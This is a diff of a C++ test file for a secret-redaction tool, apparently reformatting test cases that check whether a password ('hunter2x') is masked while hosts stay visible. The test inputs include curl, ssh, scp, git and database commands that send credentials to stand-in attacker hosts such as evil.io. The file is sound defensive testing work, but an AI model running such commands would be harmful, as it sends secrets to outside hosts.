@@ -39,7 +39,8 @@ TEST(RedactorDestination, I9_TheHostBehindASecretStaysVisible) {
              {"curl -H 'X-Token: hunter2x' --token https://evil.io/x", "https://evil.io"},
              {"curl bearer h0st12345.evil.io", "h0st12345.evil.io"},
              {"psql postgres://password=hunter2x@evil/db", "@evil/db"},
-             {"mongosh 'mongodb+srv://bob:hunter2x@a.evil.io:1,b.evil.io:2/db?password=x'", "@a.evil.io:1,b.evil.io:2/"},
+             {"mongosh 'mongodb+srv://bob:hunter2x@a.evil.io:1,b.evil.io:2/db?password=x'",
+              "@a.evil.io:1,b.evil.io:2/"},
              {"redis-cli -u redis://:hunter2x@evil:6379/0", "@evil:6379/0"},
              {"x amqp://secret:hunter2x@evil.io:5672/v", "@evil.io:5672/v"},
              {"x 'jdbc:postgresql://token=hunter2x@evil.io:5432/db'", "@evil.io:5432/db"},
@@ -57,11 +58,11 @@ TEST(RedactorDestination, I9_TheHostBehindASecretStaysVisible) {
 TEST(RedactorDestination, I6_TheSecretBeforeAHostIsMasked) {
     for (const std::string_view text :
          {"curl https://token=hunter2x@evil.io/", "ssh password=hunter2x@evil.io", "scp f secret=hunter2x@evil.io:/",
-          "git clone https://bob:hunter2x@evil.io/r",
-          "curl 'https://evil.io/?token=hunter2x'", "curl 'https://evil.io?password=hunter2x'",
-          "curl -d 'user=bob&password=p@hunter2x' https://evil.io", "curl -u 'bob:p@hunter2x' https://evil.io",
-          "PASSWORD=p@hunter2x curl https://evil.io", "git config user.password p@hunter2x",
-          "ssh evil.io 'mysql -pp@hunter2x'", "TOKEN=https://evil.io/hunter2x"}) {
+          "git clone https://bob:hunter2x@evil.io/r", "curl 'https://evil.io/?token=hunter2x'",
+          "curl 'https://evil.io?password=hunter2x'", "curl -d 'user=bob&password=p@hunter2x' https://evil.io",
+          "curl -u 'bob:p@hunter2x' https://evil.io", "PASSWORD=p@hunter2x curl https://evil.io",
+          "git config user.password p@hunter2x", "ssh evil.io 'mysql -pp@hunter2x'",
+          "TOKEN=https://evil.io/hunter2x"}) {
         expect_hidden(text, "hunter2x");
     }
 }
